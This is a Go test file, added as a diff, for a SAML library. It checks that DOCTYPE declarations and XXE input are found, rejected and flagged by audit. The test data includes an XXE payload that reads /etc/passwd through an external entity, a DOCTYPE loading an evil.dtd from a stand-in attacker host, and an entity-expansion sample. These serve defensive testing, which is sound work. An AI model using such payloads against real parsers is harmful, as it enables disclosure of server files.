@@ -0,0 +1,107 @@
+package saml
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const xxeResponse = `<?xml version="1.0"?>
+<!DOCTYPE samlp:Response [
+  <!ENTITY xxe SYSTEM "file:///etc/passwd">
+  <!ENTITY % param "value">
+]>
+<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><Issuer>&xxe;</Issuer></samlp:Response>`
+
+func TestFindDTD(t *testing.T) {
+	tests := []struct {
+		name  string
+		input string
+		want  *DTDInfo
+	}{
+		{
+			name:  "external entity",
+			input: xxeResponse,
+			want:  &DTDInfo{Entities: []string{"xxe", "param"}, External: true},
+		},
+		{
+			name:  "internal entities",
+			input: `<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><r>&b;</r>`,
+			want:  &DTDInfo{Entities: []string{"a", "b"}},
+		},
+		{
+			name:  "external DTD",
+			input: `<!DOCTYPE r SYSTEM "http://attacker.example.com/evil.dtd"><r/>`,
+			want:  &DTDInfo{External: true},
+		},
+		{
+			name:  "no DTD",
+			input: `<?xml version="1.0"?><!-- comment --><r/>`,
+		},
+		{
+			name:  "DOCTYPE-like text in body",
+			input: `<r>&lt;!DOCTYPE r&gt;</r>`,
+		},
+		{
+			name:  "not XML",
+			input: "PHNhbWxwOlJlc3BvbnNlLz4=",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, ok := FindDTD([]byte(tt.input))
+			assert.Equal(t, tt.want != nil, ok)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestDTDRejected(t *testing.T) {
+	_, err := NewParser().Parse([]byte(xxeResponse))
+	assert.ErrorIs(t, err, ErrDTD)
+
+	_, err = NewParser().ParsePartial([]byte(xxeResponse))
+	assert.ErrorIs(t, err, ErrDTD)
+
+	decryptor := &Decryptor{}
+	_, err = decryptor.Decrypt([]byte(xxeResponse))
+	assert.ErrorIs(t, err, ErrDTD)
+
+	_, err = Lint([]byte(xxeResponse), LintOptions{})
+	assert.ErrorIs(t, err, ErrDTD)
+
+	_, _, err = Rewrite([]byte(xxeResponse), RewriteOptions{})
+	assert.ErrorIs(t, err, ErrDTD)
+
+	_, err = WrapSOAP([]byte(xxeResponse))
+	assert.ErrorIs(t, err, ErrDTD)
+
+	assert.Empty(t, MessageIssuer([]byte(xxeResponse)))
+	assert.Nil(t, ParseEncryptionInfo([]byte(xxeResponse)))
+}
+
+func TestReadDocument(t *testing.T) {
+	_, err := ReadDocument([]byte(xxeResponse))
+	assert.Equal(t, ErrDTD, err)
+
+	doc, err := ReadDocument([]byte(`<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"/>`))
+	require.NoError(t, err)
+	assert.Equal(t, "_r", doc.Root().SelectAttrValue("ID", ""))
+
+	_, err = ReadDocument([]byte("<a>"))
+	assert.Error(t, err)
+}
+
+func TestAudit_DTD(t *testing.T) {
+	findings, err := Audit([]byte(xxeResponse), AuditOptions{})
+	require.NoError(t, err)
+
+	require.NotEmpty(t, findings)
+	assert.Equal(t, AuditFinding{
+		Check:    CheckDTD,
+		Severity: SeverityHigh,
+		Message:  "document has a DOCTYPE referencing external resources (possible XXE attack); entities: xxe, param",
+	}, findings[0])
+}